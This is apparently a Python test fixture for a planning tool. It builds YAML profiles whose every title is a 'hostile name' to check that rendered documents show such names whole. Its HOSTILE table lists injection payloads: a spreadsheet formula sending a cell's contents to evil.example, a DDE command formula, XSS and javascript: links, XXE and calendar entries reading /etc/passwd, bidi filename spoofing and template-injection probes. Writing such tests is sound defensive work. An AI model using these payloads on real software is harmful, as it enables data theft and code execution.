"""Hostile names: what customers may be called that documents must show whole and never obey."""

from collections.abc import Mapping
from pathlib import Path

LONG = "长" * 10_000
PLAIN = "客户 專案 Ünïcode 🚀"
"""No attack: three scripts and a character beyond 16 bits, which must survive."""

HOSTILE: Mapping[str, str] = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"quote")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "attribute": '" onload="alert(1)" x=\'y\' style=position:fixed',
    "entity": '&xxe; &#x41; ]]> <!ENTITY xxe SYSTEM "file:///etc/passwd">',
    "directive": '%%{init: {"securityLevel": "loose"}}%% click a call alert()',
    "gantt": "section title: crit, done, a1, 2020-01-01, 1d; #35; after x",
    "bidi": "quote \u202egpj.exe\u202c \u2066x\u2069 \u200f",
    "long": LONG,
    "markdown": "[x](javascript:alert(1)) ![x](http://evil.example/x.png) | **b** `c` @all #1",
    "calendar": "x\nEND:VEVENT\nBEGIN:VALARM\nATTACH:file:///etc/passwd",
    "template": "{{ 7*7 }} {% raw %} {0.__class__} ${7*7} %(x)s",
}

_PROFILE = """\
name: {name}
pack: ./pack.yaml
start: 2027-01-04
deadline: 2027-12-24
calendar: CN
company: {{employees: 300}}
closures: [{{from: 2027-03-01, to: 2027-03-03, title: {name}}}]
freezes: [{{from: 2027-11-01, to: 2027-11-11, title: {name}}}]
risks: [{{title: {short}, phase: go-live, probability: 0.2, weeks: {{low: 2, high: 6}}}}]
"""

_PACK = """\
format: 1
id: hostile
version: '1'
title: {{en: {name}, zh-CN: {name}, zh-TW: {name}}}
extends: packaged
phases:
  planning: {{title: {{en: {name}, zh-CN: {name}, zh-TW: {name}}}}}
"""


def hostile_profile(folder: Path, name: str) -> Path:
    """Write a profile and its pack in which all that has a title is called `name`.

    Returns the profile's path. Risks end in a word of their own, as titles must be told apart.
    """
    quoted = {"name": _quoted(name), "short": _quoted(f"{name} late")}
    (folder / "pack.yaml").write_text(_PACK.format_map(quoted), encoding="utf-8")
    profile = folder / "profile.yaml"
    profile.write_text(_PROFILE.format_map(quoted), encoding="utf-8")
    return profile


def _quoted(text: str) -> str:
    """Return a text as a scalar of YAML, whatever it consists of."""
    safe = (each if each.isalnum() or each == " " else f"\\U{ord(each):08x}" for each in text)
    return f'"{"".join(safe)}"'
